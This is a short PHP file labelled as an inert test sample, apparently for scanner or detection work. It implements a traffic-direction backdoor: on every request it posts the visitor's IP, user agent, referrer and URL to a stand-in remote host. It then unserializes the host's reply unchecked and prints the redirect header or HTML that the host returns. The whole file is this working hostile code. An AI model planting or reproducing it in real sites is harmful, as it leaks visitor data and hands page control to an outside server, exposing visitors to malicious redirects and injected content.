<?php
// test sample (inert): each visitor's facts posted to another server, whose reply decides the page
// (a redirect header or markup printed as it came)
function visitor() {
    $v = array();
    $v['ip'] = $_SERVER['REMOTE_ADDR'];
    $v['ua'] = @$_SERVER['HTTP_USER_AGENT'];
    $v['ref'] = @$_SERVER['HTTP_REFERER'];
    $v['page'] = @$_SERVER['HTTP_HOST'] . @$_SERVER['REQUEST_URI'];
    return $v;
}
$ch = curl_init('http://192.0.2.10/tds/in.php');
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(visitor()));
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
$reply = curl_exec($ch);
curl_close($ch);
$reply = @unserialize($reply);
if (!empty($reply['location'])) {
    header($reply['location']);
} elseif (!empty($reply['html'])) {
    echo $reply['html'];
}
